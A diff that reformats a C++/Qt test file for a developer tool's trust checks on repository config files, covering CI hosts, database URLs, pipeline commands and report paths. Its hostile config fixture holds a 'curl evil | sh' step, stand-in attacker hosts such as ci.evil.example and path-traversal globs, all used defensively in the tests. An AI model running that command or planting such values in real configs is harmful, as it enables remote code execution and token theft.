@@ -29,15 +29,21 @@ void write(const QString &path, const QByteArray &text)
 }
 
 // (No raw string: moc reads "//" inside one as a comment; "http:/" "/" keeps it apart.)
-const QByteArray Hostile = "{\n"
-    "  \"ci\": [ { \"provider\": \"github\", \"project\": \"o/r\", \"api_url\": \"http:/" "/127.0.0.1:9/gh\" },\n"
-    "          { \"provider\": \"github\", \"project\": \"o/public\" },\n"
-    "          { \"provider\": \"jenkins\", \"project\": \"app\", \"api_url\": \"https:/" "/ci.evil.example\",\n"
-    "            \"ca_bundle\": \"/etc/evil.pem\" } ],\n"
-    "  \"databases\": [ { \"name\": \"production\", \"url\": \"postgresql:/" "/app:inline@db.evil.example/shop\" } ],\n"
-    "  \"pipeline\": { \"stages\": [ { \"name\": \"build\", \"steps\": [ { \"name\": \"x\", \"run\": \"curl evil | sh\" } ] } ] },\n"
-    "  \"tests\": { \"reports\": [ \"build/*.xml\", \"/tmp/outside/*.xml\", \"../../**/*.xml\", \"a/../b/*.xml\" ] }\n"
-    "}";
+const QByteArray Hostile
+    = "{\n"
+      "  \"ci\": [ { \"provider\": \"github\", \"project\": \"o/r\", \"api_url\": \"http:/"
+      "/127.0.0.1:9/gh\" },\n"
+      "          { \"provider\": \"github\", \"project\": \"o/public\" },\n"
+      "          { \"provider\": \"jenkins\", \"project\": \"app\", \"api_url\": \"https:/"
+      "/ci.evil.example\",\n"
+      "            \"ca_bundle\": \"/etc/evil.pem\" } ],\n"
+      "  \"databases\": [ { \"name\": \"production\", \"url\": \"postgresql:/"
+      "/app:inline@db.evil.example/shop\" } ],\n"
+      "  \"pipeline\": { \"stages\": [ { \"name\": \"build\", \"steps\": [ { \"name\": \"x\", \"run\": "
+      "\"curl evil | sh\" } ] } ] },\n"
+      "  \"tests\": { \"reports\": [ \"build/*.xml\", \"/tmp/outside/*.xml\", \"../../**/*.xml\", "
+      "\"a/../b/*.xml\" ] }\n"
+      "}";
 
 } // namespace
 
@@ -95,7 +101,8 @@ private Q_SLOTS:
         TrustStore store(file);
         const QString root = repo(QStringLiteral("perm-repo"), "{}");
         QVERIFY(store.decide(root, QByteArray(64, 'a'), true));
-        QCOMPARE(QFileInfo(file).permissions(), QFile::ReadOwner | QFile::WriteOwner | QFile::ReadUser | QFile::WriteUser);
+        QCOMPARE(QFileInfo(file).permissions(),
+            QFile::ReadOwner | QFile::WriteOwner | QFile::ReadUser | QFile::WriteUser);
         const QFile::Permissions dir = QFileInfo(QFileInfo(file).absolutePath()).permissions();
         QVERIFY(!(dir & (QFile::ReadGroup | QFile::ReadOther | QFile::WriteGroup | QFile::WriteOther)));
     }
@@ -115,7 +122,8 @@ private Q_SLOTS:
         TrustStore store(m_dir.filePath(QStringLiteral("globs/trust.json")));
         const QString root = repo(QStringLiteral("globs"), Hostile);
         auto config = ProjectConfig::load(root, store);
-        QCOMPARE(config->testReportGlobs(), QStringList({ QStringLiteral("build/*.xml"), QStringLiteral("a/../b/*.xml") }));
+        QCOMPARE(config->testReportGlobs(),
+            QStringList({ QStringLiteral("build/*.xml"), QStringLiteral("a/../b/*.xml") }));
         QCOMPARE(config->refusedReportGlobs(),
             QStringList({ QStringLiteral("/tmp/outside/*.xml"), QStringLiteral("../../**/*.xml") }));
         QVERIFY(store.decide(root, config->sha256(), true));
@@ -137,16 +145,22 @@ private Q_SLOTS:
             lines << TrustRequests::describe(r);
         const QString all = lines.join(QLatin1Char('\n'));
         // The repository-named GitHub host (with the token that would go there); not the public one.
-        QVERIFY2(all.contains(QStringLiteral("host http://127.0.0.1:9/gh (github: GITHUB_TOKEN (or GH_TOKEN)")), qPrintable(all));
+        QVERIFY2(
+            all.contains(QStringLiteral("host http://127.0.0.1:9/gh (github: GITHUB_TOKEN (or GH_TOKEN)")),
+            qPrintable(all));
         QVERIFY2(!all.contains(QStringLiteral("o/public")), qPrintable(all));
-        QVERIFY2(all.contains(QStringLiteral("host https://ci.evil.example (jenkins: JENKINS_USER and JENKINS_TOKEN")), qPrintable(all));
+        QVERIFY2(all.contains(
+                     QStringLiteral("host https://ci.evil.example (jenkins: JENKINS_USER and JENKINS_TOKEN")),
+            qPrintable(all));
         QVERIFY2(all.contains(QStringLiteral("path /etc/evil.pem")), qPrintable(all));
         // A database without the password written into the file.
-        QVERIFY2(all.contains(QStringLiteral("database postgresql://app@db.evil.example/shop (production: connected with "
-                                             "DEVDASH_DB_PASSWORD_PRODUCTION, PGPASSWORD")),
+        QVERIFY2(all.contains(QStringLiteral(
+                     "database postgresql://app@db.evil.example/shop (production: connected with "
+                     "DEVDASH_DB_PASSWORD_PRODUCTION, PGPASSWORD")),
             qPrintable(all));
         QVERIFY2(!all.contains(QStringLiteral("inline")), qPrintable(all));
-        QVERIFY2(all.contains(QStringLiteral("command curl evil | sh (pipeline stage build)")), qPrintable(all));
+        QVERIFY2(
+            all.contains(QStringLiteral("command curl evil | sh (pipeline stage build)")), qPrintable(all));
         QVERIFY2(all.contains(QStringLiteral("path /tmp/outside/*.xml (test reports)")), qPrintable(all));
         QVERIFY2(all.contains(QStringLiteral("path ../../**/*.xml")), qPrintable(all));
         QCOMPARE(lines.size(), 7);
@@ -158,12 +172,14 @@ private Q_SLOTS:
         const QString big = repo(QStringLiteral("big"), QByteArray(ProjectConfig::MaxBytes + 10, ' '));
         auto tooBig = ProjectConfig::load(big, store);
         QVERIFY(!tooBig);
-        QVERIFY2(tooBig.errorMessage().contains(QStringLiteral("larger than 1024 KiB")), qPrintable(tooBig.errorMessage()));
+        QVERIFY2(tooBig.errorMessage().contains(QStringLiteral("larger than 1024 KiB")),
+            qPrintable(tooBig.errorMessage()));
 
         // A link to a file outside the repository is not read.
         write(m_dir.filePath(QStringLiteral("secret.json")), "{}");
         const QString linked = repo(QStringLiteral("linked"), QByteArray());
-        QVERIFY(QFile::link(m_dir.filePath(QStringLiteral("secret.json")), linked + QStringLiteral("/.devdash.json")));
+        QVERIFY(QFile::link(
+            m_dir.filePath(QStringLiteral("secret.json")), linked + QStringLiteral("/.devdash.json")));
         auto outside = ProjectConfig::load(linked, store);
         QVERIFY(!outside);
         QVERIFY2(outside.errorMessage().contains(QStringLiteral("regular file inside the repository")),
@@ -172,33 +188,47 @@ private Q_SLOTS:
 
     void errorsHaveOneShape()
     {
-        auto config = ProjectConfig::parse("{\n  \"x\": 1,\n  \"tests\": 3\n}", QStringLiteral("/r/.devdash.json"));
+        auto config
+            = ProjectConfig::parse("{\n  \"x\": 1,\n  \"tests\": 3\n}", QStringLiteral("/r/.devdash.json"));
         QVERIFY(!config);
-        QVERIFY2(config.errorMessage().startsWith(QStringLiteral("/r/.devdash.json:3: \"tests\": expected an object")),
+        QVERIFY2(config.errorMessage().startsWith(
+                     QStringLiteral("/r/.devdash.json:3: \"tests\": expected an object")),
             qPrintable(config.errorMessage()));
-        const Error untrusted = ConfigError::notTrusted(QStringLiteral("/r/.devdash.json"), QStringLiteral("/r"),
-            QStringLiteral("it names the database production"));
+        const Error untrusted = ConfigError::notTrusted(QStringLiteral("/r/.devdash.json"),
+            QStringLiteral("/r"), QStringLiteral("it names the database production"));
         QVERIFY(ConfigError::isNotTrusted(untrusted));
         QVERIFY(untrusted.message.contains(QStringLiteral("devdash trust /r")));
     }
 
     void hostsTokensGoToWithoutTrust()
     {
-        QVERIFY(CredentialHosts::isUserHost(QStringLiteral("github"), QStringLiteral("https://api.github.com")));
-        QVERIFY(CredentialHosts::isUserHost(QStringLiteral("gitlab"), QStringLiteral("https://gitlab.com/api/v4")));
-        QVERIFY(!CredentialHosts::isUserHost(QStringLiteral("github"), QStringLiteral("http://api.github.com")));
-        QVERIFY(!CredentialHosts::isUserHost(QStringLiteral("github"), QStringLiteral("https://api.github.com.evil.example")));
-        QVERIFY(!CredentialHosts::isUserHost(QStringLiteral("github"), QStringLiteral("https://gitlab.com/api/v4")));
-        QVERIFY(!CredentialHosts::isUserHost(QStringLiteral("jenkins"), QStringLiteral("https://ci.example.com")));
-        QVERIFY(!CredentialHosts::isUserHost(QStringLiteral("github"), QStringLiteral("https://ghe.example.com/api/v3")));
+        QVERIFY(
+            CredentialHosts::isUserHost(QStringLiteral("github"), QStringLiteral("https://api.github.com")));
+        QVERIFY(CredentialHosts::isUserHost(
+            QStringLiteral("gitlab"), QStringLiteral("https://gitlab.com/api/v4")));
+        QVERIFY(
+            !CredentialHosts::isUserHost(QStringLiteral("github"), QStringLiteral("http://api.github.com")));
+        QVERIFY(!CredentialHosts::isUserHost(
+            QStringLiteral("github"), QStringLiteral("https://api.github.com.evil.example")));
+        QVERIFY(!CredentialHosts::isUserHost(
+            QStringLiteral("github"), QStringLiteral("https://gitlab.com/api/v4")));
+        QVERIFY(!CredentialHosts::isUserHost(
+            QStringLiteral("jenkins"), QStringLiteral("https://ci.example.com")));
+        QVERIFY(!CredentialHosts::isUserHost(
+            QStringLiteral("github"), QStringLiteral("https://ghe.example.com/api/v3")));
         qputenv("GH_HOST", "ghe.example.com");
-        QVERIFY(CredentialHosts::isUserHost(QStringLiteral("github"), QStringLiteral("https://ghe.example.com/api/v3")));
-        QVERIFY(CredentialHosts::isUserHost(QStringLiteral("github"), QStringLiteral("https://api.ghe.example.com")));
-        QVERIFY(!CredentialHosts::isUserHost(QStringLiteral("gitlab"), QStringLiteral("https://ghe.example.com")));
+        QVERIFY(CredentialHosts::isUserHost(
+            QStringLiteral("github"), QStringLiteral("https://ghe.example.com/api/v3")));
+        QVERIFY(CredentialHosts::isUserHost(
+            QStringLiteral("github"), QStringLiteral("https://api.ghe.example.com")));
+        QVERIFY(!CredentialHosts::isUserHost(
+            QStringLiteral("gitlab"), QStringLiteral("https://ghe.example.com")));
         qunsetenv("GH_HOST");
         qputenv("GITLAB_HOST", "https://gitlab.example.com:8443");
-        QVERIFY(CredentialHosts::isUserHost(QStringLiteral("gitlab"), QStringLiteral("https://gitlab.example.com:8443/api/v4")));
-        QVERIFY(!CredentialHosts::isUserHost(QStringLiteral("gitlab"), QStringLiteral("https://gitlab.example.com/api/v4")));
+        QVERIFY(CredentialHosts::isUserHost(
+            QStringLiteral("gitlab"), QStringLiteral("https://gitlab.example.com:8443/api/v4")));
+        QVERIFY(!CredentialHosts::isUserHost(
+            QStringLiteral("gitlab"), QStringLiteral("https://gitlab.example.com/api/v4")));
         qunsetenv("GITLAB_HOST");
 
         for (const char *loopback : { "localhost", "127.0.0.1", "127.1.2.3", "::1", "[::1]", "LOCALHOST" })
